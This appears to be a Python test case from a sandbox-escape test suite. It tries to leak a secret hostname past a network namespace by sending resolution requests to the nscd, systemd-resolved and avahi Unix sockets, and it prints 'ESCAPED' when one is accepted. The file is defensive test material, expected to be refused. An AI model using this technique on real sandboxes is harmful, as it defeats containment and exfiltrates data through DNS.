# attack: nscd, systemd-resolved and avahi resolve for others by a Unix socket, which no network namespace hides
# expect: sandbox
# validator: refused
import _socket
import struct

NAME = b"the-secret-goes-here.example.com\0"


def nscd():
    made = _socket.socket(_socket.AF_UNIX)
    made.settimeout(0.3)
    made.connect("/var/run/nscd/socket")
    made.sendall(struct.pack("=iii", 2, 4, len(NAME)) + NAME)
    print("ESCAPED: nscd took the question", made.recv(64), flush=True)


def resolved():
    made = _socket.socket(_socket.AF_UNIX)
    made.settimeout(0.3)
    made.connect("/run/systemd/resolve/io.systemd.Resolve")
    made.sendall(b'{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"the-secret.example.com"}}\0')
    print("ESCAPED: systemd-resolved answered", made.recv(64), flush=True)


def avahi():
    made = _socket.socket(_socket.AF_UNIX)
    made.settimeout(0.3)
    made.connect("/run/avahi-daemon/socket")
    made.sendall(b"RESOLVE-HOSTNAME-IPV4 the-secret.local\n")
    print("ESCAPED: avahi answered", made.recv(64), flush=True)


def listener_in_their_place():
    # The arena's listener stands for a daemon that this machine may not have.
    made = _socket.socket(_socket.AF_UNIX)
    made.connect("@UNIX_SOCKET@")
    made.sendall(struct.pack("=iii", 2, 4, len(NAME)) + NAME)
    print("ESCAPED: a question was given to a daemon", flush=True)


for attempt in (nscd, resolved, avahi, listener_in_their_place):
    try:
        attempt()
    except Exception as error:
        print(attempt.__name__, type(error).__name__, error)
